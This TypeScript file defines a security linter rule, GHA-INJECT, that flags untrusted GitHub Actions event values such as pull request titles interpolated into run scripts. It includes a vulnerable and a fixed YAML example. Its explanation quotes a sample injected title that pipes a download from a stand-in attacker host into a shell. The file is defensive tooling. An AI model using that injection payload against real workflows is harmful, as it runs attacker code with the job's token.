import type { ManifestNode } from '../manifest-yaml.js';
import { defineManifestRule } from '../rule.js';
import { isUntrusted } from '../workflow/expressions.js';
import { jobReach } from '../workflow/job-reach.js';
import { callersOf, originsIn } from '../workflow/origins.js';
import { jobOfStep, type WorkflowStep } from '../workflow/workflow.js';
import { textOf, valueAt } from '../yaml-values.js';

export default defineManifestRule({
  id: 'GHA-INJECT',
  name: 'no-template-injection',
  severity: 'high',
  practice: 'image-security',
  ofAnyWorkflow: true,
  title: 'Untrusted text becomes part of a script',
  why: 'GitHub puts the value into the script before the shell reads it. A title such as `"; curl attacker.example | sh; "` runs as a command with the token of the job.',
  remediation:
    'Put the value into `env` of the step, and use that variable in the script, in quotation marks',
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  wrong: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.event.pull_request.title }}"`,
  right: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: \${{ github.event.pull_request.title }}\n        run: echo "$TITLE"`,
  check(manifest, report) {
    const { workflow } = manifest;
    if (!workflow) return;
    const callers = callersOf(manifest, manifest.allManifests);
    const onLimit = (reason: string) => manifest.onLimit?.(manifest.path, reason);
    for (const job of workflow.jobs)
      for (const step of job.steps)
        for (const script of scriptsOf(step)) {
          const origins = originsIn(textOf(script), { workflow, job, step, callers, onLimit });
          const { name, about } = jobOfStep(manifest.path, job, step);
          for (const value of origins.filter((one) => isUntrusted(one, workflow.events)))
            report({
              at: script.key,
              about: `${about} ${value}`,
              reach: jobReach(workflow, job),
              message: `Anyone can put commands into the script of job ${name} by ${value}`,
            });
        }
  },
});

/** The script of a step, and the command that runs it. */
function scriptsOf({ node, uses, run, with: inputs }: WorkflowStep): ManifestNode[] {
  const script = run ?? (uses?.name === 'actions/github-script' ? inputs.get('script') : undefined);
  return [script, valueAt(node, 'shell')].flatMap((one) => one ?? []);
}
